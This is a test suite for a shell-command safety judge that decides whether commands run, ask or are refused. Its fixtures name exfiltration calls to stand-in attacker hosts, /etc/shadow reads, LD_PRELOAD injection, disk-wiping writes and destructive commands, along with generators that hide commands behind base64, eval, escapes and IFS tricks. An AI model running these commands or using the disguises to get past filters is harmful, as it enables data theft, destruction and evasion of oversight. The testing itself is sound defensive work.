import { readFileSync } from 'node:fs'
import { beforeAll, describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { type Impact, impactFacts, impacts } from '../../../safety/command/impact.ts'
import { type CommandContext, judgeArgv, judgeCommand } from '../../../safety/command/judge.ts'
import { parse } from '../../../safety/command/parse.ts'
import { quote } from '../../../safety/command/unwrapped.ts'
import { loadSql } from '../../../safety/sql/inspect.ts'
import { withoutHanging } from '../../support/endless.ts'

describe('judge', () => {
  describe('judge', () => {
    const context: CommandContext = { knownHosts: new Set(['db1', '10.0.0.5']), knownNames: new Set(['web', 'web-1']) }
    const judged = (text: string) => judgeCommand(text, context)

    beforeAll(loadSql)

    type Row = { command: string; expected: string; label: string; class: string }
    const holes: Row[] = JSON.parse(readFileSync(new URL('../../data/commands/holes.json', import.meta.url), 'utf8'))

    describe('holes that were found in other judges stay shut', () => {
      test.each(holes.map((row) => [row.class, row] as const))('%s', (_, { command, label }) => {
        const { verdict, code } = judged(command)
        expect(code).not.toBe('INTERNAL')
        if (label === 'blocked') expect(verdict).toBe('refuse')
        else if (label === 'read') expect(verdict).not.toBe('refuse')
        else expect(verdict).not.toBe('run')
      })
    })

    test.each([
      'df -h',
      'cd /var/log && ls -la',
      'ps aux --sort=-%mem | head -20',
      'tail -n 100 /var/log/syslog | grep -i error | wc -l',
      'journalctl -u nginx --since "10 min ago" --no-pager',
      "awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
      'cat /var/log/nginx/*.log 2>/dev/null',
      'command -v reboot',
      'find /etc -name shadow',
      'test -f /etc/hosts && echo yes || echo no',
      'LC_ALL=C sort /etc/passwd',
      'env TZ=UTC date',
      'nice -n 10 du -sh /var',
      "sh -c 'df -h | head -3'",
      'ping -c 3 db1',
      'curl -s http://localhost:8080/health',
      'ssh db1 "df -h"',
      'docker exec web cat /etc/hosts',
      'kubectl exec -n prod web-1 -- df -h',
      'psql -c "select 1"',
      "echo 'rm -rf /'",
      'grep reboot /var/log/syslog',
      'ls # and nothing else',
    ])('a look around runs unasked: %s', (text) => {
      expect(judged(text)).toMatchObject({ verdict: 'run', effect: 'read', code: 'READ', rewrite: null })
    })

    test.each([
      ['an unknown program', 'frobnicate', 'UNKNOWN_COMMAND', 'frobnicate'],
      ['a program from an unusual place', '/tmp/ls', 'UNKNOWN_COMMAND', '/tmp/ls'],
      ['an unknown option', 'ls --frobnicate', 'ARGUMENT', '--frobnicate'],
      ['a write', 'mkdir /tmp/x', 'UNKNOWN_COMMAND', 'mkdir'],
      ['one write after many reads', 'ls; df -h && rm -f /tmp/x', 'UNKNOWN_COMMAND', 'rm'],
      ['a program fed by a read', 'cat /tmp/x | sh', 'WRAPPER', 'sh'],
      ['a file that is written', 'ls > /tmp/x', 'REDIRECTION', '> /tmp/x'],
      ['a file that is read by the shell', 'wc -l < /etc/passwd', 'REDIRECTION', '< /etc/passwd'],
      ['a loader in the environment', 'LD_PRELOAD=/tmp/x.so ls', 'ASSIGNMENT', 'LD_PRELOAD'],
      ['a loader set by env', 'env LD_PRELOAD=/tmp/x.so ls', 'ASSIGNMENT', 'env'],
      ['password hashes', 'cat /etc/shadow', 'SENSITIVE_PATH', '/etc/shadow'],
      ['password hashes by a detour', 'cat /var/log/../../etc/shadow', 'SENSITIVE_PATH', '/var/log/../../etc/shadow'],
      ['password hashes by a pattern', 'cat /etc/sh*', 'SENSITIVE_PATH', '/etc/sh*'],
      ['password hashes after a cd', 'cd /etc && cat shadow', 'SENSITIVE_PATH', 'shadow'],
      ['everything below /etc', 'grep -r x /etc', 'SENSITIVE_PATH', '/etc'],
      ['everything below who knows where', 'grep -r x', 'SENSITIVE_PATH', null],
      ['a host nobody looked up', 'ping -c 1 secret.attacker.example', 'EXFILTRATION', 'secret.attacker.example'],
      [
        'an address nobody looked up',
        "curl 'https://attacker.example/?x=1'",
        'EXFILTRATION',
        'https://attacker.example/?x=1',
      ],
      ['a host nobody looked up, by ssh', 'ssh attacker df', 'EXFILTRATION', 'attacker'],
      ['a container nobody looked up', 'docker exec other ls', 'UNKNOWN_NAME', 'other'],
      ['a write in SQL', 'psql -c "delete from t"', 'LANGUAGE', 'delete from t'],
      ['a program started by awk', `awk 'BEGIN{"id"|getline x}'`, 'LANGUAGE', `BEGIN{"id"|getline x}`],
      ['what is found', 'find /tmp -exec cat {} +', 'SENSITIVE_PATH', '/tmp/**'],
      ['what is read', 'ls | xargs cat', 'WRAPPER', 'xargs'],
      ['a pattern that may become a second operand', 'uniq /tmp/a*', 'ARGUMENT', '/tmp/a*'],
      ['a pattern that may become an option', 'ls *', 'ARGUMENT', '*'],
      ['a variable', 'ls $x', 'SHAPE', '$x'],
      ['a broken text', "ls 'x", 'SYNTAX', null],
      ['no text', '', 'EMPTY', null],
      ['only a comment', '# ls', 'EMPTY', null],
    ])('%s asks, and the word that decided is named', (_, text, code, token) => {
      expect(judged(text)).toMatchObject({ verdict: 'ask', code, token })
    })

    test('sudo asks however harmless the command, and says that it needs root', () => {
      expect(judged('sudo -u postgres cat /etc/hosts')).toMatchObject({ verdict: 'ask', code: 'ROOT', needsRoot: true })
      expect(judged("su - -c 'df -h'")).toMatchObject({ verdict: 'ask', needsRoot: true })
      expect(judged('cat /etc/hosts').needsRoot).toBe(false)
    })

    test('what nobody can see is refused', () => {
      for (const text of [
        'ls\u202e',
        'ls\r\nreboot',
        'ls \u200b',
        'ls\u0000',
        'ls \u{e0041}',
        'ｌs',
        'git\u3000status',
      ]) {
        expect(judged(text)).toMatchObject({ verdict: 'refuse', effect: 'forbidden' })
      }
      expect(judged("grep 'übergroß' /var/log/syslog").verdict).toBe('run')
    })

    test('a text that nobody can review is refused', () => {
      expect(judged(`echo ${'x'.repeat(20_000)}`)).toMatchObject({ verdict: 'refuse', code: 'TOO_LONG' })
      let nested = 'reboot'
      for (let layer = 0; layer < 200; layer += 1) nested = `nice ${nested}`
      expect(judged(nested).verdict).toBe('refuse')
    })

    test('what bash cannot read to its end hides nothing that stands before it', () => {
      expect(judged('reboot; $([[\\]]')).toMatchObject({ verdict: 'refuse' })
    })

    test('no text keeps the judge from its end', () => {
      const long = [
        `rm -rf ${'{a,b}'.repeat(40)}`,
        `cat /etc/${'*a'.repeat(200)}`,
        `ls ${'$('.repeat(3000)}`,
        `${'f() { '.repeat(1500)}x${'; }'.repeat(1500)}`,
        `awk '${'a'.repeat(8000)}${'{print}'.repeat(900)}'`,
        `sed -n '${'/a/p;'.repeat(3000)}'`,
        `find / ${'-exec x ; '.repeat(1500)}`,
        `echo ${'"'.repeat(16_001)}`,
        `${'sudo '.repeat(3000)}ls`,
        `ls ${'/..'.repeat(5000)}`,
        `ls ${'a/../'.repeat(3000)}*`,
      ]
      for (const text of long) expect(withoutHanging(() => judged(text)).code).not.toBe('INTERNAL')
    })

    test('an argv is judged without a shell: nothing in it expands', () => {
      expect(judgeArgv(['ls', '$(reboot)', '*', '; reboot'], context)).toMatchObject({ verdict: 'run' })
      expect(judgeArgv(['sh', '-c', 'ls; reboot'], context)).toMatchObject({ verdict: 'refuse', code: 'FORBIDDEN' })
      expect(judgeArgv(['cat', '/etc/shadow'], context)).toMatchObject({ verdict: 'ask', code: 'SENSITIVE_PATH' })
      expect(judgeArgv([], context)).toMatchObject({ verdict: 'ask', code: 'EMPTY' })
    })

    test('the names of all commands are listed, inside substitutions too', () => {
      expect(judged('ls $(whoami) | sudo -u x /usr/bin/head').commands).toEqual(['whoami', 'ls', 'sudo', 'head'])
    })

    test('a relative path is judged from where the command will run', () => {
      expect(judgeCommand('rm -rf *', { ...context, directory: '/etc' }).verdict).toBe('refuse')
      expect(judgeCommand('rm -rf *', { ...context, directory: '/tmp/build' }).verdict).toBe('ask')
    })

    test('a read-only session is part of the verdict where the verdict depends on it', () => {
      const { verdict, environment } = judged('psql -c "select 1"')
      expect(verdict).toBe('run')
      expect(environment).toBeDefined()
    })
  })

  describe('disguises', () => {
    // What bash makes of a text decides, not how it is spelled: refused bare is refused in every dress, and asked about bare is never run.

    const context = { knownHosts: new Set(['db-osl-1', '10.0.0.5']), knownNames: new Set(['web']) }
    const verdictOf = (text: string) => judgeCommand(text, context).verdict
    const strictness = { run: 0, ask: 1, refuse: 2 }

    type Row = { command: string }
    const rows = ['writes', 'holes'].flatMap((file): Row[] =>
      JSON.parse(readFileSync(new URL(`../../data/commands/${file}.json`, import.meta.url), 'utf8')),
    )

    /** One command of plain words, so that each of them can be dressed by itself. */
    function wordsOf(text: string): string[] | null {
      const tree = parse(text)
      const [pipeline, another] = tree?.pipelines ?? []
      const [simple, second] = pipeline ?? []
      if (!tree || another || second || !simple || tree.shapes.length > 0 || tree.error) return null
      if (simple.redirections.length > 0 || simple.assignments.length > 0 || simple.words.length === 0) return null
      const isPlain = simple.words.every(({ text, literal }) => literal && /^[\w./:@%+,=-]+$/.test(text))
      return isPlain ? simple.words.map(({ text }) => text) : null
    }

    const hex = (text: string) => [...text].map((character) => `\\x${character.charCodeAt(0).toString(16)}`).join('')
    const octal = (text: string) =>
      [...text].map((character) => `\\${character.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')
    const base64 = (text: string) => Buffer.from(text).toString('base64')
    const half = (text: string) => Math.max(1, Math.floor(text.length / 2))

    /** One word in other clothes. */
    const dressWord: Readonly<Record<string, (word: string) => string>> = {
      'empty quotes': (word) => `${word.slice(0, half(word))}''${word.slice(half(word))}`,
      'double quotes inside': (word) => `${word.slice(0, -1)}"${word.slice(-1)}"`,
      'a backslash': (word) => `\\${word}`,
      'a backslash inside': (word) => `${word.slice(0, -1)}\\${word.slice(-1)}`,
      // At the end of a text a shell keeps the backslash, so there is nothing to continue.
      'a continued line': (word) =>
        word.length === 1 ? word : `${word.slice(0, half(word))}\\\n${word.slice(half(word))}`,
      'ANSI-C quotes': (word) => `$'${hex(word)}'`,
      'octal escapes': (word) => `$'${octal(word)}'`,
      'locale quotes': (word) => `$"${word}"`,
      'no parameter inside': (word) => `${word.slice(0, half(word))}$@${word.slice(half(word))}`,
      'a default': (word) => `\${x:-${word}}`,
      'a default in quotes': (word) => `"\${x:-${word}}"`,
      'a substitution': (word) => `$(printf %s ${word})`,
      'a backtick': (word) => `\`printf %s ${word}\``,
      'printf with octal escapes': (word) => `$(printf '${octal(word)}')`,
      base64: (word) => `$(echo ${base64(word)} | base64 -d)`,
      rev: (word) => `$(rev <<< '${[...word].reverse().join('')}')`,
    }

    /** A command in other clothes, word by word or as a whole. */
    const dressCommand: Readonly<Record<string, (words: readonly string[]) => string>> = {
      ...Object.fromEntries(
        Object.entries(dressWord).flatMap(([name, dress]) => [
          [`its name by ${name}`, (words: readonly string[]) => [dress(words[0]!), ...words.slice(1)].join(' ')],
          [`each word by ${name}`, (words: readonly string[]) => words.map(dress).join(' ')],
        ]),
      ),
      'the field separator': (words) => words.join(`$\{IFS}`),
      'the field separator and a parameter': (words) => words.join('$IFS$9'),
      braces: (words) => (words.length > 1 ? `{${words.join(',')}}` : words[0]!),
      'a variable for the name': (words) => `a=${words[0]}; $a ${words.slice(1).join(' ')}`,
      'variables for all words': (words) =>
        `${words.map((word, at) => `v${at}=${word}`).join('; ')}; ${words.map((_, at) => `$v${at}`).join(' ')}`,
      'two halves': (words) =>
        `a=${words[0]!.slice(0, half(words[0]!))} b=${words[0]!.slice(half(words[0]!))}; $a$b ${words.slice(1).join(' ')}`,
      'one variable': (words) => `a='${words.join(' ')}'; $a`,
      'an array': (words) => `a=(${words.join(' ')}); "\${a[@]}"`,
      'positional parameters': (words) => `set -- ${words.join(' ')}; "$@"`,
      'a loop': (words) => `for a in ${words[0]}; do $a ${words.slice(1).join(' ')}; done`,
      'a function': (words) => `f() { ${words[0]} "$@"; }; f ${words.slice(1).join(' ')}`,
      'an alias': (words) => `alias q='${words[0]}'; q ${words.slice(1).join(' ')}`,
      'arguments of a script': (words) => `sh -c '"$@"' x ${words.join(' ')}`,
    }

    /** Any text in other clothes. */
    const dressText: Readonly<Record<string, (text: string) => string>> = {
      eval: (text) => `eval ${quote(text)}`,
      'a shell': (text) => `sh -c ${quote(text)}`,
      'a here-string': (text) => `bash <<< ${quote(text)}`,
      'a here-document': (text) => `bash <<'XYZ'\n${text}\nXYZ`,
      'a pipe': (text) => `printf '%s' ${quote(text)} | sh`,
      'base64 and a pipe': (text) => `echo ${base64(text)} | base64 -d | bash`,
      'base64 and eval': (text) => `eval "$(base64 -d <<< ${base64(text)})"`,
      'a variable and eval': (text) => `c=${quote(text)}; eval "$c"`,
      'a variable and a shell': (text) => `c=${quote(text)}; sh -c "$c"`,
      'a process substitution': (text) => `bash <(printf '%s' ${quote(text)})`,
      'a group that reads': (text) => `echo ${base64(text)} | base64 -d | (sh)`,
    }

    /** Interpreters are read in a way of their own: a text inside quotes of theirs is not one of the shell's. */
    const refused = rows.filter(({ command }) => /^[\x20-\x7e]+$/.test(command) && verdictOf(command) === 'refuse')

    describe('What is refused bare', () => {
      test('is a good part of the corpora', () => expect(refused.length).toBeGreaterThan(60))

      const laxer = (dresses: Readonly<Record<string, (row: string) => string | null>>): string[] =>
        refused.flatMap(({ command }) =>
          Object.entries(dresses).flatMap(([name, dress]) => {
            const dressed = dress(command)
            return dressed === null || verdictOf(dressed) === 'refuse' ? [] : [`${name}: ${dressed}`]
          }),
        )

      test.each(Object.entries(dressCommand))('is refused behind %s', (name, dress) => {
        const dressed = (text: string) => {
          const words = wordsOf(text)
          return words && dress(words)
        }
        expect(laxer({ [name]: dressed })).toEqual([])
      })

      test.each(Object.entries(dressText))('is refused as a text, behind %s', (name, dress) => {
        expect(laxer({ [name]: dress })).toEqual([])
      })
    })

    test.each([
      '(ls) > /dev/sda',
      '{ ls; } > /etc/passwd',
      'if ls; then ls; fi > /dev/sda',
      'for i in 1; do ls; done > /dev/sda',
      'd=/dev/sda; ls > $d',
    ])('what a group writes over is refused as well: %s', (text) => expect(verdictOf(text)).toBe('refuse'))

    test('no dress, and no dress over a dress, makes a verdict laxer', () => {
      const single = rows.flatMap(({ command }) => {
        const words = wordsOf(command)
        return words ? [{ command, words }] : []
      })
      const inner = fc.constantFrom(...Object.values(dressCommand))
      const outer = fc.constantFrom((text: string) => text, ...Object.values(dressText))
      fc.assert(
        fc.property(fc.constantFrom(...single), inner, outer, ({ command, words }, dress, cover) => {
          const dressed = cover(dress(words))
          if (strictness[verdictOf(dressed)] < strictness[verdictOf(command)])
            throw new Error(`${dressed} is judged less strictly than ${command}`)
        }),
        { numRuns: 3_000 },
      )
    })
  })
})

describe('impact', () => {
  describe('impact', () => {
    const context = { knownHosts: new Set<string>(['h']), knownNames: new Set(['web']) }
    const rows: Record<Exclude<Impact, 'look'>, string[]> = {
      create: [
        'touch /tmp/a',
        'mkdir -p /srv/a',
        'systemctl start nginx',
        'docker run nginx',
        'apt-get install -y htop',
        'cp a b',
        'kubectl apply -f a.yaml',
      ],
      change: [
        'sed -i s/a/b/ /etc/app.conf',
        'chmod 600 /srv/a',
        'systemctl reload nginx',
        'sysctl -w vm.swappiness=10',
        'kubectl label pod a b=c',
        'tee /srv/a < /dev/null',
        'echo a > /srv/a',
      ],
      unknown: ['frobnicate', './deploy.sh', 'python3 -c "import os"', 'acme-cli --all'],
      stop: [
        'systemctl stop mysql',
        'systemctl restart nginx',
        'service nginx restart',
        'kill 4242',
        'pkill -f worker',
        'docker stop web',
        'kubectl rollout restart deploy/web',
        'kubectl scale deploy/web --replicas=0',
      ],
      remove: [
        'rm /var/log/old.log',
        'docker rm web',
        'kubectl delete pod web-1',
        'apt-get remove htop',
        'truncate -s 0 /srv/a.log',
        'psql -c "delete from jobs"',
        'redis-cli del a',
      ],
      destroy: [
        'rm -r /srv/data',
        'rm -rf ./build',
        'docker volume rm data',
        'docker system prune -af',
        'docker compose down -v',
        'kubectl delete ns shop',
        'kubectl delete pvc data',
        'psql -c "drop table jobs"',
        'mysql -e "truncate table jobs"',
        'redis-cli flushall',
        'zfs destroy tank/a@monday',
        'find /srv -name "*.bak" -delete',
        'userdel anna',
        'git clean -fdx',
        'terraform apply',
        'rsync -a --delete a/ b/',
        'crontab -r',
        'lvremove vg/a',
      ],
      sever: [
        'iptables -F',
        'iptables -A INPUT -j DROP',
        'ip link set eth0 down',
        'ip route del default',
        'qm stop 101',
        'virsh shutdown web',
        'pct reboot 101',
        'kubectl drain node-1',
        'umount /srv',
        'zpool export tank',
        'nmcli con down eth0',
        'ufw reset',
      ],
    }

    test.each(
      Object.entries(rows).flatMap(([impact, commands]) => commands.map((command) => [command, impact] as const)),
    )('%s: %s', (command, impact) => {
      const verdict = judgeCommand(command, context)
      expect(verdict.verdict).not.toBe('run')
      expect(verdict.impact).toBe(impact)
    })

    test('the worst of several decides, wherever it stands', () => {
      for (const text of [
        'touch a && systemctl stop mysql',
        'for s in a b; do systemctl stop $s; done',
        'echo $(systemctl stop mysql)',
        "sh -c 'touch a; systemctl stop mysql'",
        "ssh h 'systemctl stop mysql'",
        'timeout 5 systemctl stop mysql',
      ]) {
        expect([text, judgeCommand(text, context).impact]).toEqual([text, 'stop'])
      }
    })

    test('what only looks has no impact, and no name of an object is a program', () => {
      expect(judgeCommand('df -h | sort', context)).toMatchObject({ verdict: 'run', impact: 'look' })
      for (const name of ['toString', 'constructor', '__proto__'])
        expect(judgeCommand(name, context).impact).toBe('unknown')
    })

    test('the risk never falls from one class to the next', () => {
      const order = ['none', 'low', 'medium', 'high', 'critical']
      const risks = impacts.map((impact) => order.indexOf(impactFacts[impact].risk))
      expect(risks).toEqual([...risks].sort((a, b) => a - b))
      expect([impactFacts.sever.risk, impactFacts.destroy.risk]).toEqual(['critical', 'critical'])
    })
  })

  describe('root read', () => {
    const rootReads = [
      ['ss', '-tlnp'],
      ['/usr/bin/ss', '-tlnp'],
      ['cat', '/var/log/app log'],
      ['ls', '/root/*'],
      ['git', '-C', '/srv/app', 'status'],
      ['psql', '-c', 'select 1'],
      ['rm', '/tmp/x'],
      ['cat', '/etc/shadow'],
      ['tail', '-f', '/var/log/syslog'],
      ['/home/ops/ss', '-tlnp'],
    ]
    const context: CommandContext = { knownHosts: new Set(), rootReads, directory: '/' }
    const judged = (text: string, changes: Partial<CommandContext> = {}) =>
      judgeCommand(text, { ...context, ...changes })

    describe('what root may look with runs unasked', () => {
      test.each<[string, string[], string | null]>([
        ['sudo -n ss -tlnp', ['ss', '-tlnp'], null],
        ['  sudo -n /usr/bin/ss -tlnp\n', ['/usr/bin/ss', '-tlnp'], null],
        // The same words in another dress are the same words.
        [`sudo -n "ss" '-tlnp'`, ['ss', '-tlnp'], null],
        [`sudo -n ss -t''lnp`, ['ss', '-tlnp'], null],
        [`sudo -n cat '/var/log/app log'`, ['cat', '/var/log/app log'], null],
        ['sudo -n ss -tlnp | grep 5432', ['ss', '-tlnp'], 'grep 5432'],
        ['sudo -n ss -tlnp | grep 5432 | wc -l', ['ss', '-tlnp'], 'grep 5432 | wc -l'],
      ])('%s', (text, argv, rest) => {
        expect(judged(text)).toMatchObject({ verdict: 'run', needsRoot: true, rootRead: { argv, rest }, sees: [] })
      })

      test('as words for a program, too', () => {
        expect(judgeArgv(['sudo', '-n', 'ss', '-tlnp'], context)).toMatchObject({
          verdict: 'run',
          rootRead: { argv: ['ss', '-tlnp'], rest: null },
        })
      })
    })

    describe('anything beside it asks', () => {
      test.each([
        ['without -n', 'sudo ss -tlnp'],
        ['another word', 'sudo -n ss -tln'],
        ['a word more', 'sudo -n ss -tlnp -K'],
        ['a word less', 'sudo -n ss'],
        ['words in another order', 'sudo -n -tlnp ss'],
        ['two words as one', 'sudo -n "ss -tlnp"'],
        ['an option of sudo', 'sudo -n -E ss -tlnp'],
        ['options of sudo in one word', 'sudo -nE ss -tlnp'],
        ['the long option', 'sudo --non-interactive ss -tlnp'],
        ['another user', 'sudo -n -u postgres ss -tlnp'],
        ['the end of options', 'sudo -n -- ss -tlnp'],
        ['a variable for root', 'sudo -n LD_PRELOAD=/tmp/x.so ss -tlnp'],
        ['a variable before it', 'LANG=C sudo -n ss -tlnp'],
        ['env before it', 'env sudo -n ss -tlnp'],
        ['timeout before it', 'timeout 5 sudo -n ss -tlnp'],
        ['sudo of another place', '/usr/local/bin/sudo -n ss -tlnp'],
        ['a program of another place', 'sudo -n /bin/ss -tlnp'],
        ['an unusual place, though it is listed', 'sudo -n /home/ops/ss -tlnp'],
        ['a shell that reads the words', `sudo -n sh -c 'ss -tlnp'`],
        ['a shell round it', `bash -c 'sudo -n ss -tlnp'`],
        ['a file for its output', 'sudo -n ss -tlnp > /tmp/x'],
        ['a file for its errors', 'sudo -n ss -tlnp 2>/tmp/x'],
        ['a file for its input', 'sudo -n ss -tlnp < /etc/hosts'],
        ['a text for its input', 'sudo -n ss -tlnp <<< x'],
        ['both outputs into the pipe', 'sudo -n ss -tlnp |& grep x'],
        ['a command after it', 'sudo -n ss -tlnp; uptime'],
        ['a command before it', 'uptime; sudo -n ss -tlnp'],
        ['a command where it fails', 'sudo -n ss -tlnp || uptime'],
        ['itself twice', 'sudo -n ss -tlnp; sudo -n ss -tlnp'],
        ['itself behind a pipe', 'uptime | sudo -n ss -tlnp'],
        ['itself again in the pipe', 'sudo -n ss -tlnp | sudo -n ss -tlnp'],
        ['xargs in the pipe', 'sudo -n ss -tlnp | xargs sudo -n ss -tlnp'],
        ['a write in the pipe', 'sudo -n ss -tlnp | tee /tmp/x'],
        ['a group', '(sudo -n ss -tlnp)'],
        ['a group in the pipe', 'sudo -n ss -tlnp | (cat; rm x)'],
        ['a loop in the pipe', 'sudo -n ss -tlnp | while read -r x; do echo "$x"; done'],
        ['a loop', 'for x in 1 2; do sudo -n ss -tlnp; done'],
        ['its opposite', '! sudo -n ss -tlnp'],
        ['in the background', 'sudo -n ss -tlnp &'],
        ['a substitution', 'echo "$(sudo -n ss -tlnp)"'],
        ['words from a variable', 'x=-tlnp; sudo -n ss $x'],
        ['a glob, though it is listed', 'sudo -n ls /root/*'],
        ['a brace', 'sudo -n ss {-tlnp,}'],
        ['a function of that name', 'sudo() { rm x; }; sudo -n ss -tlnp'],
        ['an alias of that name', `alias sudo='rm x'\nsudo -n ss -tlnp`],
        ['a write that is listed', 'sudo -n rm /tmp/x'],
        ['a secret that is listed', 'sudo -n cat /etc/shadow'],
        ['what obeys files of the place', 'sudo -n git -C /srv/app status'],
        ['what needs an environment', `sudo -n psql -c 'select 1'`],
        ['doas', 'doas -n ss -tlnp'],
        ['pkexec', 'pkexec ss -tlnp'],
      ])('%s', (_, text) => {
        expect([text, judged(text).verdict, judged(text).rootRead]).toEqual([text, 'ask', null])
      })

      test('what does not end is refused on the device, and asked about by nobody', () => {
        expect(judged('sudo -n tail -f /var/log/syslog')).toMatchObject({ verdict: 'ask', code: 'UNBOUNDED' })
      })

      test('in another directory than /, where a word may lead elsewhere', () => {
        expect(judged('sudo -n ss -tlnp', { directory: '/srv' }).verdict).toBe('ask')
      })

      test('where nothing is listed', () => {
        expect(judged('sudo -n ss -tlnp', { rootReads: [] }).verdict).toBe('ask')
        expect(judged('sudo -n ss -tlnp', { rootReads: undefined }).verdict).toBe('ask')
      })
    })

    test('what stands behind the pipe gets nothing of the sandbox lifted for what runs as root', () => {
      expect(judged('ss -tlnp | grep 5432').sees).toEqual(['network'])
      expect(judged('sudo -n ss -tlnp | grep 5432')).toMatchObject({ sees: [], commands: ['grep'] })
    })

    test('what is never run is not run as root either, though it is listed', () => {
      const listed = [['rm', '-rf', '/']]
      expect(judged('sudo -n rm -rf /', { rootReads: listed }).verdict).toBe('refuse')
    })
  })
})
